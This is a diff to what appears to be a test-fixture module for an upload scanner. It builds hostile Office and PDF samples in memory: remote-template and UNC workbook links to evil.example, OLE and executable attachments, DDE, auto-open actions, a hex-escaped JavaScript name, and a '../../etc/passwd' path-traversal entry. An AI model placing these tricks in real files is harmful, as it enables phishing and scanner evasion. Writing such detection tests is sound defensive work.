@@ -1,10 +1,13 @@
 """Files people upload, honest ones and others, made in memory."""
 
 import io
+import warnings
 import zipfile
+from typing import Any
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from docx import Document
+from docx.oxml import OxmlElement
 from openpyxl import Workbook
 from PIL import Image
 from pypdf import PdfWriter
@@ -89,6 +92,83 @@ def with_entities() -> bytes:
     return repacked(docx(), {"docProps/custom.xml": xml})
 
 
+_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
+
+
+def relations(kind: str, target: str, *, external: bool = True, namespace: str = _RELATION) -> bytes:
+    """The part of an Office file that says what it draws upon."""
+    mode = ' TargetMode="External"' if external else ""
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{namespace}/{kind}" Target="{target}"{mode}/></Relationships>'
+    ).encode()
+
+
+def docx_drawing_on(kind: str, target: str = "https://evil.example/x.dotm", **how: Any) -> bytes:
+    return repacked(docx(), {"word/_rels/settings.xml.rels": relations(kind, target, **how)})
+
+
+def docx_with_strict_template() -> bytes:
+    return docx_drawing_on("attachedTemplate", namespace=_STRICT)
+
+
+def docx_with_utf16_template() -> bytes:
+    text = relations("attachedTemplate", "file://evil.example/x.dotm").decode().replace("UTF-8", "UTF-16")
+    return repacked(docx(), {"word/_rels/settings.xml.rels": text.encode("utf-16")})
+
+
+def docx_with_object() -> bytes:
+    part = relations("oleObject", "embeddings/oleObject1.bin", external=False)
+    return repacked(docx(), {"word/_rels/footer9.xml.rels": part, "word/embeddings/oleObject1.bin": b"MZ"})
+
+
+def docx_with_package(name: str) -> bytes:
+    part = relations("package", f"embeddings/{name}", external=False)
+    return repacked(docx(), {"word/charts/_rels/chart1.xml.rels": part, f"word/embeddings/{name}": b"PK"})
+
+
+def docx_said_twice() -> bytes:
+    """Two parts of one name: one reader takes the first, another the last."""
+    package = io.BytesIO(docx())
+    with zipfile.ZipFile(package, "a") as both, warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        both.writestr("word/_rels/document.xml.rels", relations("hyperlink", "https://example.org/"))
+    return package.getvalue()
+
+
+def docx_with_field(code: str) -> bytes:
+    """A field whose instruction is cut into runs, as Word itself does."""
+    document = Document()
+    run = document.add_paragraph()._p
+    for piece in (code[:2], code[2:]):
+        element = OxmlElement("w:r")
+        instruction = OxmlElement("w:instrText")
+        instruction.text = piece
+        element.append(instruction)
+        run.append(element)
+    buffer = io.BytesIO()
+    document.save(buffer)
+    return buffer.getvalue()
+
+
+def xlsx_with_external_book() -> bytes:
+    link = relations("externalLinkPath", "file:///\\\\evil.example\\share\\x.xlsx")
+    return repacked(xlsx(), {"xl/externalLinks/_rels/externalLink1.xml.rels": link})
+
+
+def xlsx_with_dde() -> bytes:
+    """A DDE link names its program in the part itself, without any relation."""
+    return repacked(
+        xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink/></externalLink>"}
+    )
+
+
+def docx_with_hyperlink() -> bytes:
+    return docx_drawing_on("hyperlink", "https://www.miit.gov.cn/")
+
+
 def climbing() -> bytes:
     return repacked(docx(), {"../../etc/passwd": b"x"})
 
@@ -124,6 +204,46 @@ def pdf_launching() -> bytes:
     writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
         {NameObject("/S"): NameObject("/Launch")}
     )
+    return _pdf(writer)
+
+
+def pdf_with_file() -> bytes:
+    writer = _blank()
+    writer.add_attachment("x.exe", b"MZ")
+    return _pdf(writer)
+
+
+def pdf_with_annotation(kind: str) -> bytes:
+    """An annotation that carries or plays something."""
+    writer = _blank()
+    note = DictionaryObject(
+        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(kind)}
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
+    return _pdf(writer)
+
+
+def pdf_acting(kind: str) -> bytes:
+    """An action of this kind behind the opening of the first page."""
+    writer = _blank()
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(action)})
+    return _pdf(writer)
+
+
+def pdf_with_written_out_script() -> bytes:
+    """The name of the action in disguise: #4a is J."""
+    return pdf_with_script().replace(b"/JavaScript", b"/#4aavaScript")
+
+
+def pdf_with_link() -> bytes:
+    """A link one may click is no action by itself."""
+    writer = _blank()
+    uri = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://www.gov.cn/")}
+    link = DictionaryObject(
+        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): DictionaryObject(uri)}
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
     return _pdf(writer)
 
 
